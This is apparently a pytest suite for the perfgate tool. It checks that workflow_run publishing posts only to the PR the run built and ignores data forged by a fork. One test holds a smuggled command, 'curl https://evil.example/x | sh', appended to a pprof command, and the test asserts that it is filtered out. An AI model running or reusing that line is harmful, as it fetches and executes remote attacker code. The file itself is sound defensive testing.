"""`perfgate publish` in a workflow_run job posts only on the PR the triggering run built (checked through the API)."""

from __future__ import annotations

import json
from dataclasses import replace
from pathlib import Path

import pytest
from support.ghapi.server import TEST_TOKEN, FakeGitHub
from support.report_fixtures import pass_verdict

from perfgate.cli import main
from perfgate.errors import EXIT_PASS, EXIT_USAGE
from perfgate.github import PR_CONTEXT_FILE, PrContext, write_pr_context
from perfgate.verdict import Verdict

REPO = "acme/greeter"
FORK = "mallory/greeter"
RUN_SHA = "a" * 40
VICTIM_SHA = "b" * 40


def workflow_run_job(tmp_path: Path, fake: FakeGitHub, monkeypatch: pytest.MonkeyPatch, *, pr_number: int,
                     claimed_sha: str = RUN_SHA, verdict: Verdict | None = None) -> Path:
    """The artifact of a fork's pull_request run (verdict.json, a pr.json it wrote as it liked) and the
    workflow_run event GitHub writes for that run (head_sha and head_repository are GitHub's)."""
    folder = tmp_path / "artifact"
    (verdict or pass_verdict()).save(folder)
    write_pr_context(folder / PR_CONTEXT_FILE, PrContext(REPO, pr_number, claimed_sha, "main", False))
    event = {"action": "completed", "repository": {"full_name": REPO},
             "workflow_run": {"id": 99, "head_sha": RUN_SHA, "head_branch": "feature", "event": "pull_request",
                              "conclusion": "success", "head_repository": {"full_name": FORK}}}
    (tmp_path / "event.json").write_text(json.dumps(event))
    for name, value in {"GITHUB_ACTIONS": "true", "GITHUB_EVENT_NAME": "workflow_run",
                        "GITHUB_EVENT_PATH": str(tmp_path / "event.json"), "GITHUB_REPOSITORY": REPO,
                        "GITHUB_TOKEN": TEST_TOKEN, "GITHUB_API_URL": fake.base_url,
                        "GITHUB_OUTPUT": str(tmp_path / "output"),
                        "GITHUB_STEP_SUMMARY": str(tmp_path / "summary")}.items():
        monkeypatch.setenv(name, value)
    return folder


def posted_nothing(fake: FakeGitHub, tmp_path: Path) -> bool:
    writes = [r for r in fake.api_requests() if r.method != "GET"]
    return not writes and not fake.comments and not (tmp_path / "summary").exists()


def test_the_pr_the_run_built_gets_the_comment(fake_github: FakeGitHub, tmp_path: Path, monkeypatch) -> None:
    fake_github.add_pull(REPO, 12, head_sha=RUN_SHA, head_repo=FORK)
    folder = workflow_run_job(tmp_path, fake_github, monkeypatch, pr_number=12)
    assert main(["publish", "--from", str(folder), "--set", "report.plots=false"]) == EXIT_PASS
    [comment] = fake_github.issue_comments(REPO, 12)
    assert "PASS" in comment.body


def test_a_pr_json_naming_another_pr_posts_nothing(fake_github: FakeGitHub, tmp_path: Path, monkeypatch,
                                                   capsys) -> None:
    fake_github.add_pull(REPO, 12, head_sha=RUN_SHA, head_repo=FORK)
    fake_github.add_pull(REPO, 7, head_sha=VICTIM_SHA, head_repo=REPO)  # someone else's PR
    folder = workflow_run_job(tmp_path, fake_github, monkeypatch, pr_number=7)
    assert main(["publish", "--from", str(folder)]) == EXIT_USAGE
    err = capsys.readouterr().err
    assert f"{REPO}#7" in err and VICTIM_SHA in err and "nothing was posted" in err
    assert posted_nothing(fake_github, tmp_path)


def test_the_same_commit_in_another_repositorys_pr_posts_nothing(fake_github: FakeGitHub, tmp_path: Path,
                                                                 monkeypatch, capsys) -> None:
    fake_github.add_pull(REPO, 8, head_sha=RUN_SHA, head_repo="someone-else/greeter")
    folder = workflow_run_job(tmp_path, fake_github, monkeypatch, pr_number=8)
    assert main(["publish", "--from", str(folder)]) == EXIT_USAGE
    assert "someone-else/greeter" in capsys.readouterr().err
    assert posted_nothing(fake_github, tmp_path)


def test_a_pr_that_does_not_exist_posts_nothing(fake_github: FakeGitHub, tmp_path: Path, monkeypatch,
                                                capsys) -> None:
    folder = workflow_run_job(tmp_path, fake_github, monkeypatch, pr_number=404)
    assert main(["publish", "--from", str(folder)]) == EXIT_USAGE
    assert "does not exist" in capsys.readouterr().err
    assert posted_nothing(fake_github, tmp_path)


def test_a_forged_command_in_the_verdict_is_not_posted(fake_github: FakeGitHub, tmp_path: Path, monkeypatch) -> None:
    """The bot's comment shows a `go tool pprof` command to paste; a fork's verdict.json must not choose it."""
    forged = pass_verdict()
    forged = replace(forged, cpu=replace(forged.cpu, pprof_diff_command="go tool pprof -top a.pb.gz; curl "
                                         "https://evil.example/x | sh"),
                     baseline=replace(forged.baseline, path="/etc"))
    fake_github.add_pull(REPO, 12, head_sha=RUN_SHA, head_repo=FORK)
    folder = workflow_run_job(tmp_path, fake_github, monkeypatch, pr_number=12, verdict=forged)
    assert main(["publish", "--from", str(folder), "--set", "report.plots=false"]) == EXIT_PASS
    [comment] = fake_github.issue_comments(REPO, 12)
    assert "curl" not in comment.body and "evil.example" not in comment.body
    assert "PASS" in comment.body


def test_perfgates_own_command_is_still_posted(fake_github: FakeGitHub, tmp_path: Path, monkeypatch) -> None:
    fake_github.add_pull(REPO, 12, head_sha=RUN_SHA, head_repo=FORK)
    folder = workflow_run_job(tmp_path, fake_github, monkeypatch, pr_number=12)
    assert main(["publish", "--from", str(folder), "--set", "report.plots=false"]) == EXIT_PASS
    [comment] = fake_github.issue_comments(REPO, 12)
    assert "-diff_base=perfgate-out/baseline/cpu/rep-01.pb.gz" in comment.body
